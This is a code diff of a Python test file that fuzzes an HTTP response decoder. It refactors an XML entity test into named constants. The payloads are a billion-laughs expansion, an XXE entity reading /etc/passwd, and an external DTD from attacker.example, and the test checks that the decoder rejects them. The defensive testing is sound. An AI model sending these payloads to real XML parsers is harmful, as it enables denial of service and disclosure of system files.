@@ -3,6 +3,7 @@ exception, a hang or runaway memory. Mutations start from the real fixtures."""
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 from typing import Any
@@ -49,10 +50,8 @@ json_values = st.recursive(
 def decode(name: str, body: bytes, content_type: str) -> None:
     operation, status = CASES[name]
     response = RawResponse(status, "OK", {"Content-Type": content_type}, body, operation.method, "/fuzz")
-    try:
+    with contextlib.suppress(ResponseDecodeError):
         read_result(operation, response)
-    except ResponseDecodeError:
-        pass
 
 
 def paths(value: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
@@ -131,15 +130,18 @@ def test_bytes_flipped_in_xml_raise_decode_error_or_decode(name: str, data: st.D
     decode(name, bytes(body), "application/xml")
 
 
-@pytest.mark.parametrize(
-    "body",
-    [
-        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
-        b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><root><title>&d;</title></root>',
-        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><root><title>&x;</title></root>',
-        b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><root><title>x</title></root>',
-    ],
+LAUGHS = (
+    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
+    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
+    b'<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><root><title>&d;</title></root>'
 )
+EXTERNAL_ENTITY = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><root><title>&x;</title></root>'
+EXTERNAL_DTD = (
+    b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><root><title>x</title></root>'
+)
+
+
+@pytest.mark.parametrize("body", [LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
 def test_xml_entities_are_never_expanded(body: bytes) -> None:
     with pytest.raises(ResponseDecodeError, match="document type declaration"):
         read_result(
